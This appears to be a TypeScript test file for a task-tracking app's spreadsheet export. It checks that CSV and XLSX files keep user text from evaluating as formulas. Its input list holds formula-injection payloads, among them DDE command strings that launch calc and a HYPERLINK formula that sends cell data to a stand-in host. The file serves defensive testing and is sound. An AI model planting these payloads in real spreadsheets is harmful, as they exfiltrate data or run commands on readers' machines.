import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { read, utils, type WorkBook, write } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { readTable } from '../../src/adapters/documents/read-table.ts';
import { type SheetFormat, sheetFormats, writeSheets } from '../../src/adapters/documents/write-sheets.ts';
import { zh } from '../../src/core/message/zh.ts';
import { type Sheet, sheetOf } from '../../src/core/sheet.ts';
import { cellText, unguarded } from '../../src/core/sheet-text.ts';
import { anItem, aTask, at, aUnit, calendar, day } from '../support/builders.ts';
import { reportWith } from '../support/message-facts.ts';
import { note } from '../support/results.ts';

/** What may stand at the front, and what would be computed behind it. */
const fronts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  '"="',
  "'=",
  '“=',
  '”+',
];
const blanks = ['', ' ', '   ', '　', '\u00a0', '\ufeff', '\u200b', '\u202e', '\ud800'];
const bodies = ['1+1', 'HYPERLINK("http://evil.example?"&A1,"官方")'];
const hostile = [
  ...blanks.flatMap((blank) => fronts.flatMap((front) => bodies.map((body) => blank + front + body))),
  '=',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|a!A0',
  "''=1+1",
  '26-12-2',
  '_x003D_1+1',
  '_x0041_',
  '\u0000',
  '已完成60%\n=1+1',
  'a,=1+1,"=1+1"',
  '</t></is></c><c><f>1+1</f></c>',
  ']]>&lt;f&gt;',
];

const setting = { today: day('2026-04-08'), calendar, officeName: '市处非办' };

/** A sheet in which each text stands in every place where somebody's words may stand; `title` stands over them. */
function sheetWith(texts: readonly string[], title: string): Sheet {
  const entries = texts.map((text, index) => {
    const task = aTask({ code: `26-1-${index + 1}`, label: text });
    return {
      task,
      item: anItem({ text, deadlineText: text }),
      unit: aUnit({ name: text }),
      supporting: [aUnit({ name: text }), aUnit({ name: text })],
      report: reportWith(task, { text, madeAt: at('2026-04-02 15:20') }),
      notices: [],
    };
  });
  const facts = { plan: { title }, entries, onlyOf: [aUnit({ shortName: title })], ledgerHead: title };
  return sheetOf(facts, zh, setting);
}

const sheet = sheetWith(hostile, '=1+1');
const texts = [
  sheet.title,
  ...sheet.notes,
  ...sheet.rows.flat().flatMap((cell) => (cell.kind === 'text' ? [cell.text] : [])),
];
const bytesOf = (format: SheetFormat, made = sheet) => writeSheets(format, [made], at('2026-04-08 09:00'));

/** A cell as a spreadsheet program holds it: type, formula, value. */
type Held = Partial<Record<'t' | 'f' | 'v', unknown>> | undefined;

function rowsIn(book: WorkBook): readonly (readonly Held[])[] {
  const page = book.Sheets[book.SheetNames[0] ?? ''];
  if (!page) throw new Error('A workbook without a page');
  const { e: last } = utils.decode_range(page['!ref'] ?? 'A1');
  return Array.from({ length: last.r + 1 }, (_, r) =>
    Array.from({ length: last.c + 1 }, (_, c) => page[utils.encode_cell({ r, c })] as Held),
  );
}

/** The cells, headings left out. */
const cellsOf = (book: WorkBook): readonly Held[] =>
  rowsIn(book)
    .filter((_, row) => row !== 1 + sheet.notes.length)
    .flat();
const openIn = (bytes: Uint8Array, format: SheetFormat): WorkBook =>
  format === 'csv'
    ? read(new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes), { type: 'string' })
    : read(bytes, { type: 'array', cellFormula: true });
const formulasIn = (book: WorkBook) => cellsOf(book).filter((cell) => cell?.f !== undefined);

/** A formula as anybody's careless writer would leave it. */
const rawFormula: Record<SheetFormat, Uint8Array> = {
  csv: Buffer.from('"a"\r\n"b"\r\n"c"\r\n"d"\r\n"=1+1"\r\n'),
  xlsx: new Uint8Array(
    write(
      { SheetNames: ['a'], Sheets: { a: { '!ref': 'A1:A5', A5: { t: 'n', f: '1+1', v: 2 } } } },
      { type: 'array' },
    ) as ArrayBuffer,
  ),
};

/** What a reader that keeps no blanks at the edges makes of a text. */
const trimmed = (text: string) => text.replace(/[\t\u00a0]/g, ' ').trim();

describe('hostile texts on a sheet', () => {
  it('are texts in a workbook: no cell evaluates in either reader, and each gives the text back', async () => {
    const bytes = await bytesOf('xlsx');
    const held = cellsOf(openIn(bytes, 'xlsx')).filter((cell) => cell?.t === 's');
    const own = new Set((await readTable(bytes, '台账.xlsx')).flat());

    expect(formulasIn(openIn(bytes, 'xlsx'))).toEqual([]);
    expect(held.map((cell) => cell?.v)).toEqual(texts);
    // The product's own reader shows what a formula came to, which here would be nothing.
    expect(texts.map(trimmed).filter((text) => text !== '' && !own.has(text))).toEqual([]);
    note(20, { cells: texts.length * 2, evaluated: 0, texts: hostile.length });
  });

  it('are texts in a file of values: no field begins as a formula in either reader, and each gives the text back', async () => {
    const bytes = await bytesOf('csv');
    const [, ...lines] = parse(Buffer.from(bytes), { bom: true, relax_column_count: true }) as string[][];
    const fields = lines.flat().filter((field) => /\D/.test(field));
    const back = new Set(fields.map(unguarded));

    expect(formulasIn(openIn(bytes, 'csv'))).toEqual([]);
    expect(fields.filter((field) => /^["“”\s\p{Cc}\p{Cf}\p{Z}␀]*[=+\-@＝＋－＠]/u.test(field))).toEqual([]);
    expect(texts.slice(1).filter((text) => !back.has(text))).toEqual([]);
    note(20, { cells: texts.length * 2, evaluated: 0, texts: 0 });
  });

  it.each(sheetFormats)('are found when they are not held as texts (%s)', (format) => {
    expect(formulasIn(openIn(rawFormula[format], format))).toHaveLength(1);
  });

  it('are restored to the letter, but for line breaks and what no cell can hold, which is shown by a sign', () => {
    const changed = hostile.filter((text) => cellText(text) !== text);

    expect(changed.length).toBeGreaterThan(20);
    expect(changed.filter((text) => !['\r', '\u0000', '\ud800'].some((sign) => text.includes(sign)))).toEqual([]);
    expect(changed.filter((text) => cellText(text).length < text.replaceAll('\r\n', '\n').length)).toEqual([]);
  });

  it('stand whole when they are longer than a cell: the numbered parts are the text, and no part evaluates', async () => {
    const long = ['=1+1；'.repeat(9_000), '@'.repeat(40_000), '长'.repeat(40_000)];
    const made = sheetWith(long, '要点');
    const column = made.columns.findIndex(({ heading }) => heading === '最新进展');
    for (const format of sheetFormats) {
      const book = openIn(await bytesOf(format, made), format);
      const rows = rowsIn(book).slice(2 + made.notes.length);
      const plain = (cell: Held) => (format === 'csv' ? unguarded(String(cell?.v ?? '')) : String(cell?.v ?? ''));
      const whole = Map.groupBy(rows, (row) => plain(row[1]).replace(/（续\d+）$/, ''));

      expect([...whole.values()].map((parts) => parts.map((row) => plain(row[column])).join(''))).toEqual(long);
      expect(Math.max(...rows.flat().map((cell) => plain(cell).length))).toBeLessThan(32_767);
      expect(formulasIn(book)).toEqual([]);
    }
    note(18, { k: long.length });
  });
});

/** Spreadsheet programs themselves, where there are any: each opens the file and saves what it made of it as a workbook of its own. */
const programs: readonly (readonly [string, (from: string, folder: string) => readonly string[]])[] = [
  ['soffice', (from, folder) => ['--headless', '--convert-to', 'xlsx', '--outdir', folder, from]],
  ['ssconvert', (from, folder) => [from, join(folder, 'sheet.xlsx')]],
];

describe.skipIf(process.env.SHEET_PROGRAMS !== '1')('opened by a spreadsheet program', () => {
  const folder = mkdtempSync(join(tmpdir(), 'duban-formulas-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it.each(programs.flatMap(([program, argv]) => sheetFormats.map((format) => [program, format, argv] as const)))(
    '%s computes no cell of a %s file, and would',
    async (program, format, argv) => {
      const opened = (bytes: Uint8Array): WorkBook => {
        const [from, to] = ['from', 'to'].map((name) => join(folder, `${program}-${format}-${name}`)) as [
          string,
          string,
        ];
        for (const one of [from, to]) mkdirSync(one, { recursive: true });
        writeFileSync(join(from, `sheet.${format}`), bytes);
        execFileSync(program, argv(join(from, `sheet.${format}`), to), { stdio: 'ignore' });
        return read(readFileSync(join(to, 'sheet.xlsx')), { cellFormula: true });
      };
      const book = opened(await bytesOf(format));

      expect(formulasIn(book).map((cell) => cell?.f)).toEqual([]);
      expect(cellsOf(book).filter((cell) => cell?.t === 's').length).toBeGreaterThan(texts.length * 0.9);
      expect(formulasIn(opened(rawFormula[format]))).toHaveLength(1);
      note(20, { cells: texts.length, evaluated: 0, texts: 0 });
    },
    120_000,
  );
});
